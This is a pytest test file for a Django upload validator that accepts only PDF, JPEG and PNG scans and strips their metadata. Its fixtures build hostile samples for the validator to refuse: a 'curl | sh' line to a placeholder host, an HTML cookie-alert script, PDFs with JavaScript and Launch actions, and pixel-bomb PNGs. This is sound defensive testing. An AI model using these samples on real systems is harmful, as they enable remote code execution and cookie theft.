"""Uploaded scans: only PDF, JPEG and PNG by their content, at most 10 MB, images without metadata.

Every refused file gets a translatable message and a code, and nothing is written to MEDIA_ROOT.
The files are made here, with Pillow, pypdf or by hand: no fixture files, no mocks.
"""

from __future__ import annotations

import re
import struct
import zlib
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
from django.utils.functional import Promise
from django.utils.translation import override
from PIL import ExifTags, Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from percorsi.people.uploads import (
    MAX_IMAGE_SIDE,
    MAX_PDF_OBJECTS,
    MAX_UPLOAD_BYTES,
    CleanUpload,
    clean_upload,
    stored_name,
)

# Making files


def upload(content: bytes, name: str, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


def pdf_writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def pdf_bytes(writer: PdfWriter) -> bytes:
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def handmade_pdf(*objects: bytes) -> bytes:
    """A PDF whose object N is objects[N - 1]; object 1 is the catalog."""
    body = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    xref = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    body += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(body)


ONE_PAGE = (
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
)


def image_bytes(image: Image.Image, image_format: str, **options: object) -> bytes:
    out = BytesIO()
    image.save(out, image_format, **options)
    return out.getvalue()


def two_colours(size: tuple[int, int] = (60, 40)) -> Image.Image:
    """Red on the left half, blue on the right half."""
    image = Image.new("RGB", size, (255, 0, 0))
    image.paste((0, 0, 255), (size[0] // 2, 0, size[0], size[1]))
    return image


def bare_png(width: int, height: int) -> bytes:
    """A 1-bit black PNG written by hand: a huge image in a few kilobytes, without Pillow allocating it."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = b"\x00" * (1 + (width + 7) // 8)  # filter byte, then the packed pixels
    compressor = zlib.compressobj(9)
    pixels = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


@pytest.fixture(autouse=True)
def media_root(settings: pytest.FixtureRequest, tmp_path: Path) -> Path:
    root = tmp_path / "uploads"
    root.mkdir()
    settings.MEDIA_ROOT = root  # type: ignore[attr-defined]
    return root


def refused(uploaded: UploadedFile, media_root: Path) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        clean_upload(uploaded)
    assert list(media_root.rglob("*")) == []
    return caught.value


def english(error: ValidationError) -> str:
    with override("en"):
        (message,) = error.messages
    return message


# Accepted files


def test_a_pdf_is_kept_byte_for_byte():
    content = pdf_bytes(pdf_writer())

    clean = clean_upload(upload(content, "permesso.pdf", "application/pdf"))

    assert clean == CleanUpload(
        content=content, content_type="application/pdf", extension=".pdf", size=len(content)
    )


def test_a_pdf_with_wrong_cross_reference_offsets_is_accepted_as_viewers_accept_it():
    content = handmade_pdf(*ONE_PAGE).replace(b"1 0 obj", b"\n\n1 0 obj", 1)

    assert clean_upload(upload(content, "scan.pdf")).content == content


def test_a_jpeg_loses_exif_gps_comment_and_colour_profile_and_keeps_its_pixels():
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.Base.Model] = "Phone 12"
    exif.get_ifd(ExifTags.IFD.GPSInfo).update(
        {ExifTags.GPS.GPSLatitudeRef: "N", ExifTags.GPS.GPSLatitude: (41.0, 54.0, 12.0)}
    )
    original = image_bytes(
        two_colours((300, 200)), "JPEG", exif=exif, comment=b"Via Prenestina 45", icc_profile=b"\x00" * 128
    )
    assert b"PhoneMaker" in original
    assert b"Via Prenestina" in original

    clean = clean_upload(upload(original, "photo.jpeg", "image/jpeg"))

    assert (clean.content_type, clean.extension, clean.size) == ("image/jpeg", ".jpg", len(clean.content))
    assert b"PhoneMaker" not in clean.content
    assert b"Via Prenestina" not in clean.content
    with Image.open(BytesIO(clean.content)) as result:
        assert result.format == "JPEG"
        assert result.size == (300, 200)
        assert not result.getexif()
        assert {"exif", "comment", "icc_profile", "xmp"}.isdisjoint(result.info)
        assert result.getpixel((10, 100)) == pytest.approx((255, 0, 0), abs=8)
        assert result.getpixel((290, 100)) == pytest.approx((0, 0, 255), abs=8)


def test_a_jpeg_is_turned_upright_from_its_exif_orientation_before_the_exif_is_dropped():
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6  # the camera was turned: show the picture rotated 90° clockwise
    original = image_bytes(two_colours((60, 40)), "JPEG", exif=exif)

    clean = clean_upload(upload(original, "photo.jpg"))

    with Image.open(BytesIO(clean.content)) as result:
        assert result.size == (40, 60)
        assert not result.getexif()
        # The left half (red) is now on top.
        assert result.getpixel((20, 5)) == pytest.approx((255, 0, 0), abs=8)
        assert result.getpixel((20, 55)) == pytest.approx((0, 0, 255), abs=8)


def test_a_png_loses_its_text_chunks_and_keeps_its_transparency():
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Author", "Operatore Roma")
    info.add_itxt("Description", "Permesso di soggiorno di Mario", zip=True)
    image = Image.new("RGBA", (30, 20), (0, 128, 0, 255))
    image.putpixel((0, 0), (0, 0, 0, 0))
    original = image_bytes(image, "PNG", pnginfo=info)

    clean = clean_upload(upload(original, "scan.png", "image/png"))

    assert (clean.content_type, clean.extension) == ("image/png", ".png")
    assert b"Operatore" not in clean.content
    with Image.open(BytesIO(clean.content)) as result:
        assert result.format == "PNG"
        assert result.size == (30, 20)
        assert result.text == {}
        assert result.convert("RGBA").getpixel((0, 0))[3] == 0
        assert result.convert("RGBA").getpixel((10, 10)) == (0, 128, 0, 255)


def test_a_16_bit_greyscale_png_keeps_its_tones():
    original = image_bytes(Image.new("I;16", (10, 10), 40000), "PNG")

    with Image.open(BytesIO(clean_upload(upload(original, "scan.png")).content)) as result:
        assert result.mode == "L"
        assert result.getpixel((5, 5)) == 40000 // 256


def test_a_large_image_is_scaled_down_to_the_longest_side():
    original = image_bytes(Image.new("L", (MAX_IMAGE_SIDE + 1000, 1000), 200), "PNG")

    with Image.open(BytesIO(clean_upload(upload(original, "scan.png")).content)) as result:
        assert result.size == (MAX_IMAGE_SIDE, 800)


def test_the_name_and_the_browsers_content_type_are_ignored():
    png = image_bytes(Image.new("RGB", (8, 8), "white"), "PNG")

    clean = clean_upload(upload(png, "documento.pdf", "application/pdf"))

    assert (clean.content_type, clean.extension) == ("image/png", ".png")


def test_a_file_of_exactly_the_limit_is_accepted():
    def padded(length: int) -> bytes:
        padding = b" " * length
        return handmade_pdf(*ONE_PAGE, b"<< /Length %d >>\nstream\n%s\nendstream" % (length, padding))

    length = 0
    for _ in range(3):  # the offsets grow by a digit or two with the padding
        length += MAX_UPLOAD_BYTES - len(padded(length))
    content = padded(length)
    assert len(content) == MAX_UPLOAD_BYTES

    assert clean_upload(upload(content, "scan.pdf")).size == MAX_UPLOAD_BYTES


# Refused files


def kind_message(kind: str) -> str:
    return f"Only PDF, JPEG or PNG files can be uploaded; this file is {kind}."


DAMAGED_PDF = "The file is damaged or is not really a PDF."
DAMAGED_IMAGE = "The image is damaged or incomplete: save or scan it again."
TOO_MANY_PIXELS = "The image is too large (more than 50 megapixels): save it at a lower resolution."
ACTIVE_CONTENT = (
    "The PDF contains JavaScript or actions that run when it is opened, which can harm the computer that "
    "opens it. Print it to a new PDF or scan the paper document, and upload that copy."
)
ENCRYPTED = (
    "The PDF is protected by a password or encrypted. Save it again without protection, or scan the paper "
    "document, and upload that copy."
)


def script_named_pdf() -> bytes:
    return b"#!/bin/sh\ncurl https://example.invalid/x | sh\n"


def html_named_png() -> bytes:
    return b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n"


def html_disguised_as_pdf() -> bytes:
    return b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n"


def truncated_pdf() -> bytes:
    content = pdf_bytes(pdf_writer())
    return content[: len(content) // 2]


def pdf_without_pages() -> bytes:
    return handmade_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>")


def truncated_jpeg() -> bytes:
    noise = Image.effect_noise((300, 200), 64).convert("RGB")
    content = image_bytes(noise, "JPEG", quality=90)
    return content[: len(content) // 2]


def png_with_a_broken_checksum() -> bytes:
    content = bytearray(image_bytes(Image.new("RGB", (20, 20), "white"), "PNG"))
    content[-20] ^= 0xFF  # in the IDAT chunk
    return bytes(content)


def gif() -> bytes:
    return image_bytes(Image.new("P", (10, 10)), "GIF")


def encrypted_pdf(user_password: str) -> Callable[[], bytes]:
    def make() -> bytes:
        writer = pdf_writer()
        writer.encrypt(user_password=user_password, owner_password="owner", algorithm="RC4-128")
        return pdf_bytes(writer)

    return make


def pdf_with_document_javascript() -> bytes:
    # Document-level JavaScript, run when the file is opened: the /JavaScript name tree of the catalog.
    names = b"/Names << /JavaScript << /Names [(start) << /S /JavaScript /JS (app.alert(1)) >>] >> >>"
    return handmade_pdf(b"<< /Type /Catalog /Pages 2 0 R " + names + b" >>", *ONE_PAGE[1:])


def pdf_with_javascript_open_action() -> bytes:
    writer = pdf_writer()
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )
    return pdf_bytes(writer)


def pdf_with_javascript_link() -> bytes:
    writer = pdf_writer()
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject(
                [NumberObject(0), NumberObject(0), NumberObject(100), NumberObject(100)]
            ),
            NameObject("/A"): action,
        }
    )
    writer.add_annotation(page_number=0, annotation=link)
    return pdf_bytes(writer)


def pdf_with_escaped_javascript_names() -> bytes:
    # /Java#53cript and /J#53 are /JavaScript and /JS written with a hexadecimal escape.
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Java#53cript /J#53 (app.alert(1)) >> >>"
    return handmade_pdf(catalog, *ONE_PAGE[1:])


def pdf_with_launch_action() -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>"
    return handmade_pdf(catalog, *ONE_PAGE[1:])


def pdf_with_attachment() -> bytes:
    writer = pdf_writer()
    writer.add_attachment("notes.txt", b"hello")
    return pdf_bytes(writer)


def oversize() -> bytes:
    return b"%PDF-1.7\n" + b"\x00" * (MAX_UPLOAD_BYTES + 1 - 9)


REFUSED = [
    pytest.param(
        script_named_pdf,
        "x.pdf",
        "application/pdf",
        "unsupported_type",
        kind_message("a script"),
        id="script-named-pdf",
    ),
    pytest.param(
        html_named_png,
        "x.png",
        "image/png",
        "unsupported_type",
        kind_message("a web page (HTML) or other markup"),
        id="html-named-png",
    ),
    pytest.param(gif, "x.gif", "image/gif", "unsupported_type", kind_message("a GIF image"), id="gif"),
    pytest.param(
        gif, "x.jpg", "image/jpeg", "unsupported_type", kind_message("a GIF image"), id="gif-named-jpg"
    ),
    pytest.param(
        lambda: b"PK\x03\x04" + b"\x00" * 100,
        "x.pdf",
        "application/pdf",
        "unsupported_type",
        kind_message("a Word or other Office document, or a ZIP archive"),
        id="zip-or-docx",
    ),
    pytest.param(
        lambda: b"\x00\x00\x00\x18ftypheic" + b"\x00" * 100,
        "IMG_0001.HEIC",
        "image/heic",
        "unsupported_type",
        kind_message("a HEIC photo (the iPhone format)"),
        id="heic",
    ),
    pytest.param(
        lambda: b"\x00\x01\x02\x03" * 64,
        "x.jpg",
        "image/jpeg",
        "unsupported_type",
        "Only PDF, JPEG or PNG files can be uploaded.",
        id="unknown-binary",
    ),
    pytest.param(lambda: b"", "x.pdf", "application/pdf", "empty", "The file is empty.", id="empty"),
    pytest.param(
        oversize,
        "x.pdf",
        "application/pdf",
        "too_large",
        "The file is larger than 10 MB: scan it at a lower resolution or split it into several files.",
        id="oversize",
    ),
    pytest.param(
        html_disguised_as_pdf,
        "x.pdf",
        "application/pdf",
        "damaged_pdf",
        DAMAGED_PDF,
        id="html-with-pdf-header",
    ),
    pytest.param(truncated_pdf, "x.pdf", "application/pdf", "damaged_pdf", DAMAGED_PDF, id="truncated-pdf"),
    pytest.param(
        pdf_without_pages, "x.pdf", "application/pdf", "damaged_pdf", DAMAGED_PDF, id="pdf-without-pages"
    ),
    pytest.param(truncated_jpeg, "x.jpg", "image/jpeg", "damaged_image", DAMAGED_IMAGE, id="truncated-jpeg"),
    pytest.param(
        png_with_a_broken_checksum, "x.png", "image/png", "damaged_image", DAMAGED_IMAGE, id="png-bad-crc"
    ),
    # Above twice Pillow's limit Pillow refuses the image itself; between its limit and twice it only
    # warns (an error under pytest); under its limit but above 50 megapixels our own check refuses it.
    pytest.param(
        lambda: bare_png(20_000, 20_000),
        "x.png",
        "image/png",
        "image_too_large",
        TOO_MANY_PIXELS,
        id="bomb-400mp",
    ),
    pytest.param(
        lambda: bare_png(10_000, 10_000),
        "x.png",
        "image/png",
        "image_too_large",
        TOO_MANY_PIXELS,
        id="bomb-100mp",
    ),
    pytest.param(
        lambda: bare_png(8_000, 8_000),
        "x.png",
        "image/png",
        "image_too_large",
        TOO_MANY_PIXELS,
        id="bomb-64mp",
    ),
    pytest.param(
        encrypted_pdf("secret"), "x.pdf", "application/pdf", "pdf_encrypted", ENCRYPTED, id="encrypted-pdf"
    ),
    pytest.param(
        encrypted_pdf(""),
        "x.pdf",
        "application/pdf",
        "pdf_encrypted",
        ENCRYPTED,
        id="encrypted-pdf-no-password",
    ),
    pytest.param(
        pdf_with_document_javascript,
        "x.pdf",
        "application/pdf",
        "pdf_active_content",
        ACTIVE_CONTENT,
        id="pdf-js-names",
    ),
    pytest.param(
        pdf_with_javascript_open_action,
        "x.pdf",
        "application/pdf",
        "pdf_active_content",
        ACTIVE_CONTENT,
        id="pdf-js-open",
    ),
    pytest.param(
        pdf_with_javascript_link,
        "x.pdf",
        "application/pdf",
        "pdf_active_content",
        ACTIVE_CONTENT,
        id="pdf-js-link",
    ),
    pytest.param(
        pdf_with_escaped_javascript_names,
        "x.pdf",
        "application/pdf",
        "pdf_active_content",
        ACTIVE_CONTENT,
        id="pdf-js-escaped-names",
    ),
    pytest.param(
        pdf_with_launch_action,
        "x.pdf",
        "application/pdf",
        "pdf_active_content",
        ACTIVE_CONTENT,
        id="pdf-launch",
    ),
    pytest.param(
        pdf_with_attachment,
        "x.pdf",
        "application/pdf",
        "pdf_attachments",
        "The PDF contains attached files. Upload the document without attachments.",
        id="pdf-attachment",
    ),
]


@pytest.mark.parametrize(("make", "name", "content_type", "code", "message"), REFUSED)
def test_refused_with_a_clear_translatable_message_and_nothing_stored(
    make: Callable[[], bytes], name: str, content_type: str, code: str, message: str, media_root: Path
):
    error = refused(upload(make(), name, content_type), media_root)

    assert error.code == code
    assert isinstance(error.message, Promise)
    for value in (error.params or {}).values():
        assert isinstance(value, Promise | int)
    assert english(error) == message


def test_a_pdf_too_complex_to_check_is_refused(media_root: Path):
    count = MAX_PDF_OBJECTS + 10
    first = len(ONE_PAGE) + 2
    catalog = b"<< /Type /Catalog /Pages 2 0 R /Extra 4 0 R >>"
    extra = b"[" + b" ".join(b"%d 0 R" % number for number in range(first, first + count)) + b"]"
    content = handmade_pdf(catalog, *ONE_PAGE[1:], extra, *(b"<< /V %d >>" % n for n in range(count)))
    assert len(content) < MAX_UPLOAD_BYTES

    error = refused(upload(content, "x.pdf"), media_root)

    assert error.code == "pdf_too_complex"
    assert english(error) == (
        "The PDF is too complex to be checked: print it to a new PDF or scan the paper document."
    )


class CountingStream:
    """An endless stream of zeros after a PDF header that counts the bytes it gave."""

    def __init__(self) -> None:
        self.given = 0

    def read(self, size: int = -1) -> bytes:
        assert size >= 0, "an unbounded read of an upload"
        chunk = (b"%PDF-1.7\n" + b"\x00" * size)[:size] if self.given == 0 else b"\x00" * size
        self.given += len(chunk)
        return chunk

    def seek(self, offset: int, whence: int = 0) -> int:
        assert self.given == 0 or offset == 0
        return 0


def test_an_oversize_stream_of_unknown_size_is_read_only_to_the_limit(media_root: Path):
    stream = CountingStream()

    error = refused(UploadedFile(stream, name="x.pdf", size=None), media_root)  # type: ignore[arg-type]

    assert error.code == "too_large"
    assert stream.given == MAX_UPLOAD_BYTES + 1


class UnreadableStream:
    def read(self, size: int = -1) -> bytes:
        raise AssertionError("a file declared too large was read")

    def seek(self, offset: int, whence: int = 0) -> int:
        return 0


def test_a_file_declared_larger_than_the_limit_is_not_read(media_root: Path):
    uploaded = UploadedFile(UnreadableStream(), name="x.pdf", size=MAX_UPLOAD_BYTES + 1)  # type: ignore[arg-type]

    assert refused(uploaded, media_root).code == "too_large"


# Stored names


def test_the_stored_name_is_random_and_keeps_nothing_of_the_original_name():
    clean = clean_upload(upload(pdf_bytes(pdf_writer()), "Permesso Mario Rossi.pdf"))

    names = {stored_name(clean) for _ in range(20)}

    assert len(names) == 20
    assert all(re.fullmatch(r"[0-9a-f]{32}\.pdf", name) for name in names)
    jpeg = clean_upload(upload(image_bytes(Image.new("RGB", (8, 8)), "JPEG"), "foto.jpeg"))
    assert re.fullmatch(r"[0-9a-f]{32}\.jpg", stored_name(jpeg))


def test_a_truncated_image_is_refused_even_after_the_plan_document_library_is_loaded(
    media_root: Path,
) -> None:
    """WeasyPrint, imported when the first plan document is made, turns on Pillow's process-wide
    "load truncated images": uploads must go on refusing them in the same process."""
    import importlib

    import weasyprint.images
    from PIL import ImageFile

    # Run WeasyPrint's import-time code again: an earlier test of this worker may have imported it.
    importlib.reload(weasyprint.images)

    assert ImageFile.LOAD_TRUNCATED_IMAGES  # what WeasyPrint does, the reason for this test
    try:
        error = refused(SimpleUploadedFile("x.jpg", truncated_jpeg(), "image/jpeg"), media_root)
        assert error.code == "damaged_image"
    finally:
        ImageFile.LOAD_TRUNCATED_IMAGES = False
